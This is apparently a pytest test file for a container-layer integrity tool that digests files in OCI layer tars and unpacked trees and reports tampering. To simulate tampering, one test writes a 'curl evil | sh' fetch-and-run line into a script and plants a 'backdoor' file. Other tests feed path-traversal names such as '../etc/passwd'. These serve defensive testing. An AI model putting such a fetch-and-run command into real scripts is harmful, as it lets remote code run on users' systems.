"""File digests of a layer: from its tar stream, and from an unpacked directory."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import stat
import sys
import tarfile
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from trustplane.errors import MalformedError
from trustplane.oci.compression import decompressed
from trustplane.trust.file_digests import (
    WHITEOUT,
    compare,
    digest_layer_tar,
    is_reference_path,
    layer_path,
    measure_tree,
)


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> tuple:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.linkname = link
    return info, data


def tar_of(*members: tuple) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.type == tarfile.REGTYPE else None)
    return buf.getvalue()


def digests(data: bytes) -> dict[str, str]:
    return digest_layer_tar(io.BytesIO(data))


def test_files_links_and_devices_get_their_reference_values() -> None:
    fifo = tarfile.TarInfo("run/pipe")
    fifo.type = tarfile.FIFOTYPE
    device = tarfile.TarInfo("dev/null")
    device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 3
    files = digests(
        tar_of(
            member("etc", tarfile.DIRTYPE),
            member("etc/passwd", data=b"root:x:0:0\n"),
            member("bin/sh", tarfile.SYMTYPE, link="/bin/busybox"),
            member("bin/busybox", data=b"\x7fELF"),
            member("bin/ash", tarfile.LNKTYPE, link="bin/busybox"),
            (fifo, b""),
            (device, b""),
        )
    )
    assert files == {
        "/etc/passwd": sha(b"root:x:0:0\n"),
        "/bin/sh": "symlink:/bin/busybox",
        "/bin/busybox": sha(b"\x7fELF"),
        "/bin/ash": sha(b"\x7fELF"),  # a hard link is the file it names
        "/run/pipe": "fifo",
        "/dev/null": "char:1:3",
    }


def test_whiteouts_hide_paths_and_opaque_markers_are_not_files() -> None:
    files = digests(
        tar_of(
            member("etc/.wh.shadow"),
            member("var/cache/.wh..wh..opq"),
            member(".wh..wh.plnk/123"),
            member("var/cache/new", data=b"n"),
        )
    )
    assert files == {"/etc/shadow": WHITEOUT, "/var/cache/new": sha(b"n")}


@pytest.mark.parametrize("name", ["etc/.wh.", "etc/.wh..", "etc/.wh..."])
def test_a_whiteout_that_names_no_file_is_refused(name: str) -> None:
    with pytest.raises(MalformedError, match="names no file"):
        digests(tar_of(member(name)))


def test_a_later_entry_replaces_an_earlier_one() -> None:
    files = digests(
        tar_of(
            member("a", data=b"first"),
            member("a", data=b"second"),
            member("b", data=b"file"),
            member("b", tarfile.DIRTYPE),
        )
    )
    assert files == {"/a": sha(b"second")}


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("/etc/passwd", "/etc/passwd"),
        ("./etc/passwd", "/etc/passwd"),
        ("etc//x/../passwd", "/etc/passwd"),
        ("///etc/passwd", "/etc/passwd"),
    ],
)
def test_absolute_and_unclean_names_land_where_docker_unpacks_them(
    name: str, expected: str
) -> None:
    assert layer_path(name) == expected
    assert digests(tar_of(member(name, data=b"x"))) == {expected: sha(b"x")}


@pytest.mark.parametrize("name", ["../etc/passwd", "a/../../etc/passwd", "..", "/../x"])
def test_names_that_escape_the_root_are_refused(name: str) -> None:
    with pytest.raises(MalformedError, match="escapes the root"):
        digests(tar_of(member(name, data=b"x")))


def test_hard_link_to_a_file_the_layer_lacks_is_refused() -> None:
    with pytest.raises(MalformedError, match="does not hold"):
        digests(tar_of(member("bin/ash", tarfile.LNKTYPE, link="bin/busybox")))


def test_garbage_is_not_a_layer() -> None:
    with pytest.raises(MalformedError, match="not a valid layer tar"):
        digests(b"\x01" * 1024)


def test_a_truncated_layer_is_refused() -> None:
    data = tar_of(member("a", data=b"x" * 5000), member("b", data=b"y"))
    with pytest.raises(MalformedError, match="not a valid layer tar"):
        digests(data[:2048])


def test_docker_s_empty_layer_has_no_files() -> None:
    assert digests(bytes(1024)) == {}


def test_reference_paths_are_absolute_and_normal() -> None:
    assert is_reference_path("/etc/passwd")
    for bad in ("etc/passwd", "/", "/etc/../passwd", "//etc", "/a/", "/a\x00b", "/" + "a" * 5000):
        assert not is_reference_path(bad), bad


class _Zeros(io.RawIOBase):
    """A tar of one file of `size` zero bytes, produced as it is read."""

    def __init__(self, size: int) -> None:
        info = tarfile.TarInfo("big/zeros")
        info.size = size
        padding = -size % tarfile.BLOCKSIZE
        self._parts: Iterator[tuple[bytes, int]] = iter(
            [(info.tobuf(format=tarfile.PAX_FORMAT), 1), (b"\0", size + padding + 1024)]
        )
        self._current, self._left = b"", 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        while self._left == 0:
            part = next(self._parts, None)
            if part is None:
                return 0
            self._current, self._left = part
            if len(self._current) > 1:
                n = len(self._current)
                buffer[:n] = self._current
                self._left = 0
                return n
        n = min(len(buffer), self._left)
        buffer[:n] = bytes(n)
        self._left -= n
        return n


def test_a_huge_file_is_streamed_in_flat_memory() -> None:
    size = 256 << 20
    expected = hashlib.sha256()
    chunk = bytes(1 << 20)
    for _ in range(size >> 20):
        expected.update(chunk)
    tracemalloc.start()
    try:
        files = digest_layer_tar(io.BufferedReader(_Zeros(size), 1 << 20))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert files == {"/big/zeros": "sha256:" + expected.hexdigest()}
    assert peak < 16 << 20, f"peak {peak} bytes for a {size}-byte file"


def test_gzip_layers_digest_like_plain_ones() -> None:
    data = tar_of(member("app/run.sh", data=b"#!/bin/sh\n"))
    stream = decompressed(io.BytesIO(gzip.compress(data)), "gzip")
    assert digest_layer_tar(stream) == digests(data)


def unpack(data: bytes, root: Path) -> None:
    """What overlay2 does with a layer: whiteouts become 0:0 character devices."""
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        for info in tar:
            name = Path(info.name)
            if name.name.startswith(".wh."):
                target = root / name.parent / name.name[4:]
                target.parent.mkdir(parents=True, exist_ok=True)
                os.mknod(target, stat.S_IFCHR | 0o600, os.makedev(0, 0))
            else:
                tar.extract(info, root, filter="fully_trusted")


LAYER = tar_of(
    member("app", tarfile.DIRTYPE),
    member("app/run.sh", data=b"#!/bin/sh\necho hi\n"),
    member("app/conf", data=b"debug=0\n"),
    member("app/latest", tarfile.SYMTYPE, link="run.sh"),
    member("etc/.wh.motd"),
)


def test_an_unpacked_layer_measures_like_its_tar(tmp_path: Path) -> None:
    unpack(LAYER, tmp_path)
    reference = digests(LAYER)
    assert measure_tree(tmp_path) == reference
    assert compare(reference, measure_tree(tmp_path)).clean


def test_changed_missing_and_unexpected_files_are_found(tmp_path: Path) -> None:
    unpack(LAYER, tmp_path)
    reference = digests(LAYER)
    (tmp_path / "app" / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (tmp_path / "app" / "conf").unlink()
    (tmp_path / "app" / "latest").unlink()
    (tmp_path / "app" / "latest").symlink_to("/tmp/evil")
    (tmp_path / "etc" / "motd").unlink()  # the whiteout is gone: the lower file shows again
    (tmp_path / "app" / "backdoor").write_bytes(b"x")
    drift = compare(reference, measure_tree(tmp_path))
    assert drift.changed == ("/app/latest", "/app/run.sh")
    assert drift.missing == ("/app/conf", "/etc/motd")
    assert drift.unexpected == ("/app/backdoor",)
    assert not drift.clean


def test_measuring_never_follows_symlinks(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(b"s")
    layer = tmp_path / "layer"
    layer.mkdir()
    (layer / "data").symlink_to(outside)
    assert measure_tree(layer) == {"/data": f"symlink:{outside}"}


def test_deep_trees_are_measured_without_recursion(tmp_path: Path) -> None:
    # A tree deeper than the recursion limit (lowered here, so that pytest's own
    # recursive clean-up of tmp_path still copes with the tree afterwards).
    deep = tmp_path
    for _ in range(300):
        deep = deep / "d"
        deep.mkdir()
    (deep / "f").write_bytes(b"deep")
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(150)
    try:
        measured = measure_tree(tmp_path)
    finally:
        sys.setrecursionlimit(limit)
        # Removed here, leaf first: Python 3.11's shutil.rmtree recurses, and
        # pytest's clean-up of old temporary directories uses it.
        (deep / "f").unlink()
        while deep != tmp_path:
            deep.rmdir()
            deep = deep.parent
    assert measured == {"/d" * 300 + "/f": sha(b"deep")}
